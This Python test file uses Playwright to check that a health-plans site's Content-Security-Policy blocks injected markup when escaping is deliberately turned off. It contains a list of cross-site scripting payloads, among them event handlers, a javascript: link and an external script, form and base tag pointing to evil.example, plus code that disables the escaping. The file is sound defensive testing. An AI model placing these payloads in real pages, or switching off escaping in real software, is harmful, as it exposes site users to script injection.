"""Issue 20, defence in depth: the Content-Security-Policy in a real browser.

A plan full of markup is built with the escaping switched off in a child build (the check's
name pattern dropped, the renderer's autoescape and its text filters' escaping off, the search
index's cleaning off, the build's report of foreign inline scripts silenced), so the markup is
live in the pages and in the search results, as if escaping had slipped everywhere. Under the
policy none of it runs: no script element, no event handler, no javascript: link, no script or
plugin from another server, no form sent elsewhere; and the site's own code still works:
search (from a ?q= link too), compare, sorting, the theme toggle (whose inline script is allowed
by its hash), the offline preview with its search, the published site built with board packs,
and `mkdocs serve` with its live reload. Every refusal the browser reports
(`securitypolicyviolation`, listened to in every frame) is one of the planted payloads'; none
is the site's own.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from .browserkit import PAGE_TYPES, ROOT, SCREENSHOTS, SITE, VIEWS, serve
from .test_browser_search import search

from sitebuild import build_in_child  # noqa: E402

MARK = "pwned"
EVIL = "evil.example"
# Each payload, if it ran, would set a window.__pwned_* global, log or open a dialog.
PAYLOADS = [
    "<script>window.__pwned_script=1;console.log('pwned');alert('pwned')</script>",
    '<img src="x" onerror="window.__pwned_img=1">',
    '<svg onload="window.__pwned_svg=1"></svg>',
    '<a id="pwned-link" href="javascript:window.__pwned_href=1">pwned link</a>',
    "<iframe srcdoc=\"<script>parent.__pwned_srcdoc=1</script>\"></iframe>",
    f'<script src="https://{EVIL}/pwned.js"></script>',
    '<input aria-label="pwned" onfocus="window.__pwned_focus=1" autofocus>',
    '<details open ontoggle="window.__pwned_toggle=1"><summary>pwned</summary></details>',
    f'<form action="https://{EVIL}/pwned"><button id="pwned-submit">pwned form</button></form>',
    f'<object data="https://{EVIL}/pwned.swf" aria-label="pwned"></object>',
    f'<base href="https://{EVIL}/">',
]
NAME = "NHS Planted CCG " + "".join(PAYLOADS[:4])
PLAN = {
    "id": "planted",
    "name": NAME,
    "as_at": "2014-03",
    "provenance": {"title": "Planted: " + PAYLOADS[1], "date": "2013-12-11",
                   "url": "https://www.planted.nhs.uk/francis.pdf"},
    "grouping": {"name": "Themes " + PAYLOADS[2], "groups": [{"id": "g1", "name": "Group " + PAYLOADS[6]}]},
    "actions": [
        {"id": "1", "group": "g1", "workstream": "quality", "recommendation": 124,
         "action": "Planted action\n\n" + "\n\n".join(PAYLOADS), "owner": "Owner " + PAYLOADS[7],
         "current_position": "Position " + PAYLOADS[3], "due": "2014-03-31"},
        {"id": "2", "group": "g1", "workstream": "engagement", "action": "Second " + PAYLOADS[8], "due": "2014/15"},
    ],
}
# The child build: escaping off everywhere the plans' text goes, so only the policy stands.
ESCAPING_OFF = """
import logging
from markupsafe import Markup
from macros.plans import schema
schema.schema()['definitions']['plain_name'].pop('pattern')
from macros import render
render.environment().autoescape = False
render.escape = Markup
from macros.site import csp, searchsafe
searchsafe.clean = lambda entry: entry
csp.log = logging.getLogger('planted')
csp.log.propagate = False
csp.log.addHandler(logging.NullHandler())
"""
RAN = """() => Object.getOwnPropertyNames(window).filter(k => k.startsWith('__pwned'))"""
LISTEN = """window.addEventListener('securitypolicyviolation', e => window.__cspReport && window.__cspReport({
  directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile,
  line: e.lineNumber, page: location.href}), true);"""


def planted_plans(folder: Path) -> Path:
    """The real plans and the planted one (JSON is YAML: every string quoted and escaped)."""
    shutil.copytree(ROOT / "plans", folder)
    text = "# yaml-language-server: $schema=../macros/schema.json\n" + json.dumps(PLAN, indent=2) + "\n"
    (folder / "planted.yaml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def plans(tmp_path_factory) -> Path:
    return planted_plans(tmp_path_factory.mktemp("planted") / "plans")


@pytest.fixture(scope="module")
def planted_site(tmp_path_factory, plans) -> Path:
    out = tmp_path_factory.mktemp("planted-site")
    build_in_child(ESCAPING_OFF, "", out, out / "unused", plans_dir=plans, extra_env={"BOARD_PACKS": "true"})
    page = (out / "organisations" / "planted" / "index.html").read_text(encoding="utf-8")
    assert PAYLOADS[1] in page and PAYLOADS[0] in page, "the child build should publish the markup as it is"
    return out


@pytest.fixture(scope="module")
def planted_preview(tmp_path_factory, plans) -> Path:
    out = tmp_path_factory.mktemp("planted-preview")
    build_in_child(ESCAPING_OFF, "", out, out / "unused", plans_dir=plans, extra_env={"OFFLINE": "true"})
    subprocess.run([sys.executable, "-m", "macros.site.preview", str(out)], cwd=ROOT, check=True,
                   capture_output=True, timeout=300)
    return out


@pytest.fixture(scope="module")
def planted_url(planted_site):
    with serve(planted_site) as url:
        yield url


class Watched:
    """A tab that records what the page's scripts did: policy refusals (in every frame),
    console messages, dialogs and requests to other servers (aborted)."""

    def __init__(self, browser, base: str, view: str = "desktop", scheme: str = "light"):
        self.context = browser.new_context(service_workers="block", color_scheme=scheme, **VIEWS[view])
        self.base = base
        self.violations: list[dict] = []
        self.console: list[str] = []
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.context.expose_binding("__cspReport", lambda source, report: self.violations.append(report))
        self.context.add_init_script(LISTEN)
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))

    def _route(self, route):
        url = route.request.url
        if url.startswith((self.base, "data:", "blob:", "about:")) or (self.base.startswith("file:") and
                                                                         url.startswith("file:")):
            route.continue_()
        else:
            self.outside.append(url)
            route.abort()

    def open(self, path: str, wait_ms: int = 600):
        self.page.goto(self.base + path, wait_until="load")
        self.page.wait_for_timeout(wait_ms)  # handlers fire after load (onerror, ontoggle, autofocus)
        return self.page

    def ran(self) -> list[str]:
        found = []
        for frame in self.page.frames:
            try:
                found += frame.evaluate(RAN)
            except Exception:  # noqa: BLE001 - a frame that went away or is another origin's
                pass
        return found

    def own_refusals(self) -> list[dict]:
        """Refusals that are not the planted payloads': the site's own code being refused."""
        return [v for v in self.violations
                if MARK not in (v.get("sample") or "") and EVIL not in (v.get("blocked") or "")]

    def assert_nothing_ran(self, where: str):
        assert self.ran() == [], where
        assert self.dialogs == [], where
        assert not [c for c in self.console if c.startswith("log:") and MARK in c], (where, self.console)
        assert self.outside == [], (where, self.outside)
        assert self.own_refusals() == [], (where, self.own_refusals())

    def close(self):
        self.context.close()


@pytest.fixture
def watched(browser):
    tabs = []

    def make(base, view="desktop", scheme="light"):
        tab = Watched(browser, base, view, scheme)
        tabs.append(tab)
        return tab

    yield make
    for tab in tabs:
        tab.close()


def test_planted_markup_is_live_but_nothing_runs(watched, planted_url):
    tab = watched(planted_url)
    page = tab.open("organisations/planted/")
    # the escaping really was off: the payloads are elements of the page...
    live = page.evaluate("""() => ({img: document.querySelectorAll('main img[onerror]').length,
        script: [...document.querySelectorAll('main script')].filter(s => s.textContent.includes('pwned')).length,
        link: document.querySelectorAll('main a[href^="javascript:"]').length,
        base: document.querySelectorAll('base[href*="evil"]').length})""")
    assert all(live.values()), live
    # ...and the browser refused each kind (samples name the planted code, never the site's)
    refused = {v["directive"] for v in tab.violations}
    assert {"script-src-elem", "script-src-attr", "base-uri", "object-src"} <= refused, tab.violations
    # a reader who clicks the planted link and button
    page.locator("#pwned-link").first.click()
    page.locator("#pwned-submit").first.focus()
    page.keyboard.press("Enter")
    page.wait_for_timeout(500)
    assert page.url.startswith(planted_url + "organisations/planted/"), page.url
    assert {"script-src-elem", "form-action"} <= {v["directive"] for v in tab.violations}
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / "csp-planted-organisation.png"), full_page=False)
    tab.assert_nothing_ran("organisations/planted/")
    for path in ("", "organisations/", "reporting/", "compare/", "recommendations/124/", "workstreams/quality/",
                 "organisations/planted/progress/"):
        tab.open(path)
        tab.assert_nothing_ran(path or "home")


def test_search_shows_the_planted_name_and_nothing_runs(watched, planted_url):
    tab = watched(planted_url)
    page = tab.open("")
    titles = search(page, "Planted")
    assert titles and titles[0].startswith("NHS Planted CCG"), titles[:3]
    if page.locator("[data-fr-search]").count():  # the site's search (fr-search.js): every value goes in as text
        assert page.locator(".md-search-result img").count() == 0
        assert page.locator(".md-search-result__item h1").first.text_content() == NAME
    elif page.locator(".md-search-result").count():  # the theme's results: the names went in as HTML
        assert page.locator(".md-search-result img[onerror]").count() > 0
    page.wait_for_timeout(500)
    tab.assert_nothing_ran("search results")
    page.locator(".md-search-result__item > .md-search-result__link").first.click()
    page.wait_for_url(re.compile(r"organisations/planted/"))
    page.wait_for_timeout(500)
    tab.assert_nothing_ran("the result followed")
    # a shared search link opens the search with the query
    page = tab.open("organisations/?q=Planted")
    page.locator(".md-search-result__item").first.wait_for(timeout=30_000)  # the worker indexes first
    tab.assert_nothing_ran("?q=Planted")


def test_compare_sorting_and_the_theme_toggle_work_under_the_policy(watched, planted_url):
    tab = watched(planted_url)
    other = SITE.organisations[0]
    page = tab.open(f"compare/?orgs=planted,{other.id}")
    page.locator(".fr-sbs__row").first.wait_for()
    labels = page.locator(".fr-sbs__org").all_text_contents()
    assert NAME in labels and other.name in labels  # the planted name shown as text by compare.js
    page.get_by_role("button", name=f"Remove {other.name}").click()
    page.wait_for_function("() => !location.search.includes(',')")
    tab.assert_nothing_ran("compare")
    # sorting (docs/javascripts/sort-table.js) on the reporting register, planted name and all
    page = tab.open("reporting/")
    table = page.locator("table[data-sortable]").first
    heading = table.locator("thead th").first
    heading.get_by_role("button").click()
    first = heading.get_attribute("aria-sort")
    heading.get_by_role("button").click()
    assert {first, heading.get_attribute("aria-sort")} == {"ascending", "descending"}
    tab.assert_nothing_ran("sorting")
    # the theme toggle; the theme's inline palette script (allowed by its hash) restores the choice
    page = tab.open("organisations/planted/")
    scheme = page.evaluate("() => document.body.getAttribute('data-md-color-scheme')")
    page.locator("form[data-md-component=palette] label:visible").first.click()
    page.wait_for_function("s => document.body.getAttribute('data-md-color-scheme') !== s", arg=scheme)
    chosen = page.evaluate("() => document.body.getAttribute('data-md-color-scheme')")
    page = tab.open("organisations/")
    assert page.evaluate("() => document.body.getAttribute('data-md-color-scheme')") == chosen
    tab.assert_nothing_ran("theme toggle")


def test_the_preview_and_its_search_work_under_the_policy(watched, planted_preview):
    tab = watched(planted_preview.as_uri() + "/")
    page = tab.open("organisations/planted/index.html")
    assert page.evaluate("() => document.querySelectorAll('main img[onerror]').length") > 0
    tab.assert_nothing_ran("preview: organisations/planted/")
    page = tab.open("organisations/index.html")  # (the planted page's autofocus field would take the keys)
    titles = search(page, "Planted")
    assert titles and titles[0].startswith("NHS Planted CCG"), titles[:3]
    page.wait_for_timeout(500)
    tab.assert_nothing_ran("preview: search")
    assert not [c for c in tab.console if "Content Security Policy" in c and MARK not in c
                and "inline script" in c and "iframe" in c], tab.console


def test_every_kind_of_published_page_runs_its_own_scripts(watched, base_url):
    """The real site as published (with board packs): the theme's inline scripts ran on every
    kind of page, and the browser refused nothing."""
    tab = watched(base_url)
    for ptype, path in sorted(PAGE_TYPES.items()):
        page = tab.open(path, wait_ms=200)
        assert page.evaluate("() => typeof __md_get === 'function' && typeof document$ !== 'undefined'"), ptype
        assert tab.violations == [], (ptype, tab.violations)
    assert not [c for c in tab.console if "Content Security Policy" in c], tab.console
    page = tab.open(PAGE_TYPES["organisation"])
    assert page.get_by_role("link", name="Board report (PDF)").count() == 1


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_live_reload_under_mkdocs_serve(watched, tmp_path):
    """`mkdocs serve` adds its live-reload script to each page as it serves it: allowed by its
    hash, so an edit to a plan reloads the page."""
    plans = tmp_path / "plans"
    shutil.copytree(ROOT / "plans", plans)
    port = _free_port()
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PLANS_DIR": str(plans)}
    env.pop("SITE_URL", None)
    server = subprocess.Popen([sys.executable, "-m", "mkdocs", "serve", "--strict", "--dev-addr", f"127.0.0.1:{port}"],
                              cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        base = f"http://127.0.0.1:{port}/"
        deadline = time.monotonic() + 300
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, "mkdocs serve did not start"
                time.sleep(0.5)
        org = SITE.organisations[0]
        tab = watched(base)
        page = tab.open(f"organisations/{org.id}/", wait_ms=1000)
        assert "log: Enabled live reload" in tab.console, tab.console
        plan = plans / Path(org.source).name
        text = plan.read_text(encoding="utf-8")
        action = org.actions[0].action.split("\n")[0][:30]
        assert action in text
        with page.expect_navigation(timeout=120_000):
            plan.write_text(text.replace(action, "Reloaded under the policy " + action, 1), encoding="utf-8")
        page.wait_for_load_state("load")
        assert "Reloaded under the policy" in page.locator("main").inner_text()
        assert tab.violations == [] and not [c for c in tab.console if "Content Security Policy" in c], tab.console
    finally:
        server.send_signal(signal.SIGINT)  # as Ctrl-C: mkdocs removes its temporary site
        server.wait(timeout=30)
